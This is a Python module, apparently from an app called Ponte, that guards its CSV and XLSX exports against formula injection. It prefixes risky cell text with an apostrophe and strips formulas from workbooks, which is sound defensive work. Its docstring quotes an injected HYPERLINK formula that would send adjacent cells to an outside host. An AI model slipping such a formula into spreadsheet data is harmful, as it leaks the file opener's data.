"""Cells of the files Ponte exports (CSV, XLSX): shown by a spreadsheet, never run by it.

A text that starts with = + - @, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets (formula or CSV injection): a title like
`=HYPERLINK("http://…?"&B3;"…")` typed into Ponte would send the cells next to it to a stranger
when the file is opened. Every export passes its text through `neutralised`, and a workbook
through `without_formulas` before it is saved: Ponte's exports carry no formula at all."""

from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: Any) -> Any:
    """Text that a spreadsheet would run gets a leading apostrophe, which makes it text again;
    numbers, dates, empty cells and any other text pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def neutralised_row(values: Iterable[Any]) -> list[Any]:
    return [neutralised(value) for value in values]


def without_formulas(workbook: Workbook) -> Workbook:
    """Every text cell of every sheet neutralised, whatever wrote it (openpyxl stores a text
    that starts with = as a formula)."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    safe = neutralised(cell.value)
                    if safe is not cell.value:
                        cell.value = safe
    return workbook
